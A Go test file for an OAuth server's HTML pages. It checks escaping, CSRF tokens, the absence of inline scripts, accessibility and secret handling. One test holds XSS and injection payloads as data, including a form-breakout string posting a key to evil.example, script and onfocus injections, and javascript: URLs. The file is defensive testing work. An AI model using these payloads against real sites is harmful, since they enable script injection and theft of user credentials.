package pages_test

import (
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"intervals-mcp/internal/oauth/pages"
	"intervals-mcp/internal/oauth/pages/pagestest"
)

const origin = "https://mcp.example.com"

var set = pages.New()

func render(t *testing.T, s pagestest.Sample) *httptest.ResponseRecorder {
	t.Helper()
	w := httptest.NewRecorder()
	if err := set.Render(w, s.Status, s.Page); err != nil {
		t.Fatalf("%s: %v", s.Name, err)
	}
	if w.Code != s.Status {
		t.Errorf("%s: status %d, want %d", s.Name, w.Code, s.Status)
	}
	return w
}

// element is a start tag with its attributes, in the order of the page.
type element struct {
	name   string
	attr   map[string]string
	parent *element
	text   string
}

func (e *element) inside(name string) *element {
	for ; e != nil; e = e.parent {
		if e.name == name {
			return e
		}
	}
	return nil
}

// parse reads a page and fails when a tag is not closed.
func parse(t *testing.T, name, page string) []*element {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(strings.ReplaceAll(page, "\x1b", ""))) // XML knows no such sign, HTML does
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	var all []*element
	var open []*element
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			e := &element{name: tok.Name.Local, attr: map[string]string{}}
			for _, a := range tok.Attr {
				e.attr[a.Name.Local] = a.Value
			}
			if len(open) > 0 {
				e.parent = open[len(open)-1]
			}
			all, open = append(all, e), append(open, e)
		case xml.EndElement:
			if len(open) == 0 || open[len(open)-1].name != tok.Name.Local {
				t.Fatalf("%s: </%s> closes nothing", name, tok.Name.Local)
			}
			open = open[:len(open)-1]
		case xml.CharData:
			for _, e := range open {
				e.text += string(tok)
			}
		}
	}
	if len(open) > 0 {
		t.Fatalf("%s: <%s> is not closed", name, open[len(open)-1].name)
	}
	return all
}

func named(all []*element, names ...string) (out []*element) {
	for _, e := range all {
		if slices.Contains(names, e.name) {
			out = append(out, e)
		}
	}
	return out
}

// shape is a page without its words: elements and the names of attributes.
func shape(all []*element) string {
	var b strings.Builder
	for _, e := range all {
		var names []string
		for a := range e.attr {
			names = append(names, a)
		}
		slices.Sort(names)
		fmt.Fprintf(&b, "<%s %s>\n", e.name, strings.Join(names, " "))
	}
	return b.String()
}

// tame is a text of the same length without any sign that means something.
func tame(s string) string {
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune("<>\"'&{}=;()/`", r) {
			return 'x'
		}
		return r
	}, s)
}

func TestNoTextOfOthersBecomesMarkup(t *testing.T) {
	for _, hostile := range []string{
		pagestest.Nasty,
		`"></input></form></main><form action="https://evil.example"><input name=key>`,
		`' autofocus onfocus='alert(1)`, `</title><script>alert(1)</script>`, "`${alert(1)}`", `{{template "csrf" .}}`, "<!--", "]]>", `&#60;script&#62;`,
	} {
		plain := pagestest.Hostile(origin, tame(hostile))
		for i, s := range pagestest.Hostile(origin, hostile) {
			got := parse(t, s.Name, render(t, s).Body.String())
			want := parse(t, s.Name, render(t, plain[i]).Body.String())
			if shape(got) != shape(want) {
				t.Errorf("%s: %q changes the page's elements", s.Name, hostile)
			}
		}
	}
}

func TestNoPageHoldsInlineScriptOrStyleOrAForeignAddress(t *testing.T) {
	for _, s := range pagestest.Samples(origin) {
		for _, e := range parse(t, s.Name, render(t, s).Body.String()) {
			for a, v := range e.attr {
				if strings.HasPrefix(a, "on") || a == "style" || a == "srcdoc" || a == "formaction" {
					t.Errorf("%s: <%s> has %s", s.Name, e.name, a)
				}
				if (a == "href" || a == "src" || a == "action") && strings.Contains(strings.ToLower(v), "script:") && !strings.HasPrefix(s.Name, "hostile") {
					t.Errorf("%s: <%s %s=%q>", s.Name, e.name, a, v)
				}
				if (a == "src" || e.name == "link") && a != "rel" && a != "type" && !strings.HasPrefix(v, pages.PathAssets) {
					t.Errorf("%s: <%s> loads %q", s.Name, e.name, v)
				}
			}
			switch e.name {
			case "style", "iframe", "object", "embed", "base":
				t.Errorf("%s holds <%s>", s.Name, e.name)
			case "script":
				if e.attr["src"] == "" || e.text != "" {
					t.Errorf("%s holds inline script", s.Name)
				}
			}
		}
	}
}

func TestAnAddressThatWouldRunIsNoLink(t *testing.T) {
	for _, bad := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", " javascript:alert(1)"} {
		s := pagestest.Sample{Name: bad, Status: 200, Page: &pages.Failure{Kind: pages.NotFound, Back: bad}}
		for _, e := range named(parse(t, bad, render(t, s).Body.String()), "a") {
			if strings.Contains(strings.ToLower(e.attr["href"]), ":") {
				t.Errorf("%q is a link to %q", bad, e.attr["href"])
			}
		}
	}
}

func TestEveryFormIsAPostToAKnownPlaceWithTheCSRFToken(t *testing.T) {
	places := []string{pages.PathAuthorize, pages.PathSignIn, pages.PathSignOut, pages.PathConnections + "/", pages.PathTokens, pages.PathChanges + "/", pages.PathHistory + "/", pages.PathKey + "/", pages.PathMine + "/"}
	for _, s := range pagestest.Samples(origin) {
		all := parse(t, s.Name, render(t, s).Body.String())
		tokens := map[*element]bool{}
		for _, e := range named(all, "input") {
			if f := e.inside("form"); f == nil {
				t.Errorf("%s: an input outside any form", s.Name)
			} else if e.attr["name"] == pages.FieldCSRF && e.attr["value"] != "" {
				tokens[f] = true
			}
		}
		for _, f := range named(all, "form") {
			if f.attr["method"] != "post" || !tokens[f] {
				t.Errorf("%s: the form to %s: method %q, CSRF token %v", s.Name, f.attr["action"], f.attr["method"], tokens[f])
			}
			if !slices.ContainsFunc(places, func(p string) bool { return strings.HasPrefix(f.attr["action"], p) }) {
				t.Errorf("%s: a form leads to %q", s.Name, f.attr["action"])
			}
			if f.parent.inside("form") != nil {
				t.Errorf("%s: a form in a form", s.Name)
			}
		}
	}
}

func TestEveryPageCanBeReadAloud(t *testing.T) {
	for _, s := range pagestest.Samples(origin) {
		all := parse(t, s.Name, render(t, s).Body.String())
		for _, once := range []string{"h1", "main", "title", "header", "footer"} {
			if n := len(named(all, once)); n != 1 {
				t.Errorf("%s has %d <%s>", s.Name, n, once)
			}
		}
		if named(all, "html")[0].attr["lang"] != "en" {
			t.Errorf("%s does not say its language", s.Name)
		}
		ids, labels := map[string]bool{}, map[string]bool{}
		for _, e := range all {
			if id := e.attr["id"]; id != "" {
				if ids[id] {
					t.Errorf("%s: the id %s stands twice", s.Name, id)
				}
				ids[id] = true
			}
			labels[e.attr["for"]] = true
		}
		for _, e := range all {
			for _, a := range []string{"aria-labelledby", "aria-describedby", "for"} {
				for id := range strings.FieldsSeq(e.attr[a]) {
					if !ids[id] {
						t.Errorf("%s: %s=%q of <%s> leads nowhere", s.Name, a, id, e.name)
					}
				}
			}
			if (e.name == "input" || e.name == "select") && e.attr["type"] != "hidden" && !labels[e.attr["id"]] && e.inside("label") == nil {
				t.Errorf("%s: the field %s has no label", s.Name, e.attr["name"])
			}
			if (e.name == "button" || e.name == "a" || e.name == "summary") && strings.TrimSpace(e.text) == "" {
				t.Errorf("%s: a <%s> without words", s.Name, e.name)
			}
		}
		level := 0
		for _, h := range named(all, "h1", "h2", "h3", "h4") {
			n := int(h.name[1] - '0')
			if n > level+1 {
				t.Errorf("%s: <%s> %q after level %d", s.Name, h.name, h.text, level)
			}
			level = n
		}
	}
}

func TestTheKeyFieldKeepsNothing(t *testing.T) {
	n := 0
	for _, s := range pagestest.Samples(origin) {
		for _, e := range named(parse(t, s.Name, render(t, s).Body.String()), "input") {
			if e.attr["name"] != pages.FieldKey {
				continue
			}
			n++
			if _, has := e.attr["value"]; has || e.attr["type"] != "password" || e.attr["autocomplete"] != "off" {
				t.Errorf("%s: the key field is %v", s.Name, e.attr)
			}
		}
	}
	if n == 0 {
		t.Error("no page has a key field")
	}
}

func TestAFreshTokenIsTheOnlySecretOnAnyPage(t *testing.T) {
	for _, s := range pagestest.Samples(origin) {
		page := render(t, s).Body.String()
		if n := strings.Count(page, pagestest.FreshToken); n != map[string]int{"tokens-fresh": 1}[s.Name] {
			t.Errorf("%s shows the token %d times", s.Name, n)
		}
		if strings.Contains(page, "[redacted]") {
			t.Errorf("%s tries to print a secret", s.Name)
		}
	}
}
